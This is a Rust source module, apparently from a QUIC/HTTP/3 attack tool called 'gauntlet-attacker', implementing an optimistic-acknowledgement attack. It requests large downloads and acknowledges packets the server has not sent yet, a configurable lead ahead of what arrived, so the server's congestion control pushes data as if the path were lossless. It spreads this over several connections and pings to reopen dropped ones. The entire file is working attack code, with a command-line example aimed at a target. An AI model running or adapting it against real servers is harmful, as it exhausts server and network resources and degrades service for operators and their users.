//! Acknowledgements of packets that did not come (RFC 9000, section 21.4; CVE-2025-4820 in one stack).

use std::io::Write;
use std::time::{Duration, Instant};

use clap::Args;

use super::feed::{self, Load};
use crate::caps::Held;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::http::h3;
use crate::outcome::Outcome;
use crate::quic::{Acks, QuicSession};
use crate::quic_wire::transport_parameters::Stated;

/// Downloads whose packets are acknowledged before they come
///
/// A start is a request for a long answer (--path; /bytes/10000000 without). Every acknowledgement claims all packets up
/// to the largest that came and --lead more, so that the server's congestion control sees a path without delay or loss.
/// Until its first request a connection acknowledges what came, lest it be closed before anything is asked of it.
///
/// A server that watches for acknowledgements of what it never sent closes the connection (PROTOCOL_VIOLATION, 0xa).
/// Some hold that back while their window is full and drop the connection: what comes later they answer with a stateless
/// reset.
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Example:
  gauntlet-attacker optimistic-ack --target 127.0.0.1:4433 --rate 1 --connections 4 --lead 100")]
pub struct OptimisticAck {
    #[command(flatten)]
    common: Common,
    /// Connections that starts are made on in turn
    #[arg(long, default_value = "1", value_name = "COUNT")]
    connections: Held,
    /// Packets that are acknowledged ahead of the largest that came
    #[arg(long, default_value_t = 100, value_name = "PACKETS", value_parser = clap::value_parser!(u64).range(1..=1_000_000))]
    lead: u64,
}

impl OptimisticAck {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        let context = Context::new(&self.common, &[Protocol::H3])?;
        feed::run::<Ahead>(&context, self.connections.count(), self.lead, out).await
    }
}

/// After so long without a word the server is asked for one, so that a connection that it has dropped is opened again.
const SILENCE: Duration = Duration::from_millis(100);

struct Ahead(QuicSession);

impl Load for Ahead {
    type Options = u64;

    async fn open(context: &Context, _: &u64) -> Result<Self, Outcome> {
        Ok(Self(feed::open_quic(context, &Stated::default()).await?))
    }

    fn start(&mut self, context: &Context, lead: &u64) -> Result<(), Outcome> {
        let request = h3::get(&context.host, context.long_path());
        feed::request_quic(&mut self.0.client, &request, true)?;
        self.0.client.acks = Acks::Ahead(*lead);
        Ok(())
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        let until = Instant::now() + SILENCE;
        self.0.turn(until).await?;
        if Instant::now() >= until {
            self.0.client.ping();
        }
        Ok(())
    }
}
